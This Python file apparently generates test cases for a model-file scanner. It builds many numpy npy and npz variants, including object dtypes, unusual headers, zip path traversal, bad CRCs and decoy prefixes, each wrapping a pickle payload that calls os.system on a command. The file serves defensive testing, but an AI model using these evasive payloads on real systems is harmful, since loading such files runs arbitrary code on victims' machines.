"""numpy: object dtypes anywhere in an npy header, npz members of any name, and files that are not npy at all."""

import io
import struct

from assembler import *
from case import COMMAND, add, case
from zipwriter import BZIP2, DEFLATED, LZMA, Entry, write

N = {"loader": "numpy"}
EVIL = payload()


def npy(descr: str, body: bytes = EVIL, shape="(1,)", order="False", version=(1, 0), header: str | None = None, align=64) -> bytes:
    """An npy file around `body`; numpy/lib/format.py has the layout."""
    text = header if header is not None else f"{{'descr': {descr}, 'fortran_order': {order}, 'shape': {shape}, }}"
    data = text.encode("utf-8" if version[0] == 3 else "latin1")
    width = "<H" if version[0] == 1 else "<I"
    base = 8 + struct.calcsize(width)
    data += b" " * (-(base + len(data) + 1) % align) + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack(width, len(data)) + data + body


for version in (1, 2, 3):
    add(f"numpy/object-version-{version}", npy("'|O'", version=(version, 0)), **N)
for name, descr in {
    "O": "'O'", "O8": "'|O8'", "little-O": "'<O'", "big-O": "'>O'", "equals-O": "'=O'", "word": "'object'", "code": "'object_'", "structured": "[('a', '|O')]", "structured-second": "[('a', '<f4'), ('b', '|O')]",
    "structured-nested": "[('a', [('b', [('c', '|O')])])]", "subarray": "[('a', '|O', (2,))]", "subarray-nested": "[('a', [('b', '|O', (1,))], (2, 2))]", "titled": "[(('title', 'a'), '|O')]", "comma": "'i4,O'", "subarray-top": "('|O', (2,))",
    "repeated": "'2O'", "python2-name": "[('a', '|O8')]", "padded": "[('a', '|i1'), ('', '|V7'), ('b', '|O')]", "unicode-name": "[('\\u00e4', '|O')]", "wide": "[" + ", ".join(f"('f{number}', '<f4')" for number in range(60)) + ", ('z', '|O')]",
}.items():
    add(f"numpy/dtype-{name}", npy(descr), **N)
add("numpy/shape-empty", npy("'|O'", shape="()"), **N)
add("numpy/shape-zero", npy("'|O'", shape="(0,)"), **N)
add("numpy/shape-many", npy("'|O'", shape="(1, 1, 1, 1)"), **N)
add("numpy/fortran", npy("'|O'", shape="(1, 1)", order="True"), **N)
add("numpy/shape-python2-long", npy("'|O'", shape="(1L,)"), **N)
add("numpy/shape-huge", npy("'|O'", shape="(999999999,)"), **N)
add("numpy/header-key-order", npy("", header="{'shape': (1,), 'fortran_order': False, 'descr': '|O'}"), **N)
add("numpy/header-double-quotes", npy("", header='{"descr": "|O", "fortran_order": False, "shape": (1,)}'), **N)
add("numpy/header-escapes", npy("", header="{'\\x64escr': '\\x7c\\x4f', 'fortran_order': False, 'shape': (1,)}"), **N)
add("numpy/header-joined-text", npy("", header="{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,)}"), **N)
add("numpy/header-duplicate-key", npy("", header="{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}"), **N)
add("numpy/header-lines", npy("", header="{'descr':\n '|O',\n 'fortran_order': False,\n 'shape': (1,)}"), **N)
add("numpy/header-comment", npy("", header="{'descr': '|O', 'fortran_order': False, 'shape': (1,)} # '<f8'"), **N)
add("numpy/header-set-like", npy("", header="{'descr': [('a','|O'),], 'fortran_order': False, 'shape': (+1,)}"), **N)
add("numpy/header-triple-quotes", npy("", header="{'''descr''': r'|O', 'fortran_order': False, 'shape': (1,)}"), **N)
add("numpy/header-not-aligned", npy("'|O'", align=1), **N)
add("numpy/header-long", npy("", header="{'descr': '|O', 'fortran_order': False, 'shape': (1,)}" + " " * 60_000), **N)
add("numpy/header-very-long", npy("", header="{'descr': '|O', 'fortran_order': False, 'shape': (1,)}" + " " * 2_000_000, version=(2, 0)), **N)
add("numpy/minor-version-object", npy("'|O'", version=(1, 0)) + b"trailing", **N)
add("numpy/object-break", npy("'|O'", body=payload()[:-1] + b"\xff"), **N)
add("numpy/object-protocol-5", npy("'|O'", body=payload(5)), **N)
add("numpy/object-protocol-0", npy("'|O'", body=inst("posix", "system", string_line(COMMAND)) + STOP), **N)
# numpy.load falls back to pickle for what is neither npy nor zip.
for version in range(6):
    add(f"numpy/fallback-protocol-{version}", payload(version), **N)
add("numpy/fallback-named-npz", payload(), "numpy", "model.npz")
add("numpy/fallback-inst", inst("posix", "system", string_line(COMMAND)) + STOP, **N)
add("numpy/object-named-bin", npy("'|O'"), "numpy", "weights.bin")
Z = {"loader": "numpy", "file": "model.npz"}
add("numpy/npz", write([Entry("a.npy", npy("'|O'"))]), **Z)
add("numpy/npz-second", write([Entry("a.npy", npy("'<f8'", bytes(8))), Entry("b.npy", npy("'|O'"))]), **Z)
add("numpy/npz-no-ending", write([Entry("weights", npy("'|O'"))]), **Z)
add("numpy/npz-other-ending", write([Entry("weights.txt", npy("'|O'"))]), **Z)
add("numpy/npz-folder", write([Entry("a/b/c.npy", npy("'|O'"))]), **Z)
add("numpy/npz-upper-case", write([Entry("A.NPY", npy("'|O'"))]), **Z)
add("numpy/npz-empty-name", write([Entry(".npy", npy("'|O'"))]), **Z)
add("numpy/npz-traversal", write([Entry("../a.npy", npy("'|O'"))]), **Z)
for name, method in (("deflated", DEFLATED), ("bzip2", BZIP2), ("lzma", LZMA)):
    add(f"numpy/npz-{name}", write([Entry("a.npy", npy("'|O'"), method=method)]), **Z)
add("numpy/npz-duplicate-last", write([Entry("a.npy", npy("'<f8'", bytes(8))), Entry("a.npy", npy("'|O'"))]), **Z)
add("numpy/npz-zip64", write([Entry("a.npy", npy("'|O'"))], zip64=True), **Z)
add("numpy/npz-descriptor", write([Entry("a.npy", npy("'|O'"), descriptor=True)]), **Z)
add("numpy/npz-wrong-crc", write([Entry("a.npy", npy("'|O'", body=EVIL + bytes(100_000)), central={"crc": 1}, local={"crc": 1})]), **Z)
add("numpy/npz-local-sizes", write([Entry("a.npy", npy("'|O'"), local={"packed": 1, "size": 1, "crc": 9})]), **Z)
add("numpy/npz-local-method", write([Entry("a.npy", npy("'|O'"), local={"method": 8})]), **Z)
add("numpy/npz-comment", write([Entry("a.npy", npy("'|O'"))], comment=b"x" * 300), **Z)
add("numpy/npz-named-npy", write([Entry("a.npy", npy("'|O'"))]), "numpy", "model.npy")
add("numpy/npz-many", write([*(Entry(f"a{number}.npy", npy("'<f8'", bytes(8))) for number in range(500)), Entry("z.npy", npy("'|O'"))]), **Z)
add("numpy/npz-prefix", write([Entry("a.npy", npy("'|O'"))], prefix=b"PK\x03\x04" + b"decoy" * 10), **Z)


class Reducing:
    def __reduce__(self):
        import os

        return os.system, (COMMAND,)


@case("numpy/saved-object-array", "numpy")
def _():
    import numpy

    buffer = io.BytesIO()
    numpy.save(buffer, numpy.array([1, {"a": Reducing()}], dtype=object), allow_pickle=True)
    return buffer.getvalue()


@case("numpy/saved-dict", "numpy")
def _():
    """numpy.save of a dict, as weights of word vectors and speech models are saved."""
    import numpy

    buffer = io.BytesIO()
    numpy.save(buffer, {"conv1": {"weights": numpy.zeros((2, 2)), "extra": Reducing()}}, allow_pickle=True)
    return buffer.getvalue()


@case("numpy/saved-npz", "numpy", file="model.npz")
def _():
    import numpy

    buffer = io.BytesIO()
    numpy.savez_compressed(buffer, a=numpy.zeros(3), b=numpy.array([Reducing()], dtype=object))
    return buffer.getvalue()
